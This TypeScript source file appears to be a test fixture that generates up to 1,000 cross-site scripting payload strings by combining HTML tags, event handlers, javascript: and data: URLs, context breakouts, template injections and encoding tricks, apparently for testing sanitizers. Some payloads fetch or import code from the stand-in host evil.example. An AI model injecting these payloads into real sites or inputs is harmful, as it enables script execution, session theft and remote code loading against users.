/**
 * Distinct texts that would run a script, load something or leave the page if any of them were ever taken for markup, for an
 * address or for code: tags × ways to start × what is started, in several encodings and contexts.
 */
export function scriptStrings(): readonly string[] {
  const starts = [
    'alert(1)',
    'parent.hit=1',
    "fetch('//evil.example/')",
    'import("//evil.example/x.js")',
    'document.title=1',
  ];
  const tags = [
    'img src=x',
    'svg',
    'body',
    'video src=x',
    'input autofocus',
    'details open',
    'iframe',
    'marquee',
    'object',
    'style',
  ];
  const events = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onstart', 'onpointerenter'];
  const tagged = tags.flatMap((tag) =>
    events.flatMap((event) => starts.map((start) => `<${tag} ${event}="${start}">`)),
  );
  const addresses = [
    'javascript:',
    'JaVaScRiPt:',
    'java\tscript:',
    'data:text/html,',
    'vbscript:',
    'blob:',
    '//evil.example/',
    'https://evil.example/?',
  ].flatMap((protocol) =>
    starts.flatMap((start) => [
      `${protocol}${start}`,
      `<a href="${protocol}${start}">x</a>`,
      `<iframe src='${protocol}${start}'></iframe>`,
      `[x](${protocol}${start})`,
      `![x](${protocol}${start})`,
      `<form action="${protocol}${start}"><button>x`,
      `<base href="${protocol}${start}">`,
      `<meta http-equiv="refresh" content="0;url=${protocol}${start}">`,
    ]),
  );
  const contexts = starts.flatMap((start) => [
    `<script>${start}</script>`,
    `</script><script>${start}</script>`,
    `</textarea><script>${start}</script>`,
    `</title><script>${start}</script>`,
    `--><script>${start}</script>`,
    `]]><script>${start}</script>`,
    `"><script>${start}</script>`,
    `' onmouseover='${start}`,
    `" autofocus onfocus="${start}`,
    `\`\${${start}}`,
    `{{constructor.constructor('${start}')()}}`,
    `\${${start}}`,
    `<%= ${start} %>`,
    `<math><mtext><img src=x onerror=${start}>`,
    `<template><script>${start}</script></template>`,
    `<noscript><p title="</noscript><img src=x onerror=${start}>">`,
    `<link rel=stylesheet href="https://evil.example/${start}">`,
    `<style>@import '//evil.example/${start}';</style>`,
  ]);
  const encodings: readonly ((text: string) => string)[] = [
    (text) => text.replaceAll('<', '&lt;'),
    (text) => text.replaceAll('<', '&#60;'),
    (text) => text.replaceAll('<', '\\u003c'),
    (text) => text.replaceAll('<', '\\x3c'),
    (text) => encodeURIComponent(text),
    (text) => text.replaceAll('<', '\u0000<'),
    (text) => text.replaceAll('<', '＜'),
    (text) => text.replaceAll(' ', '/'),
    (text) => `\u202e${text}`,
    (text) => text.toUpperCase(),
  ];
  const plain = [...tagged, ...addresses, ...contexts];
  const encoded = encodings.flatMap((encode) => contexts.slice(0, 45).map(encode));
  return [...new Set([...plain, ...encoded])].slice(0, 1_000);
}
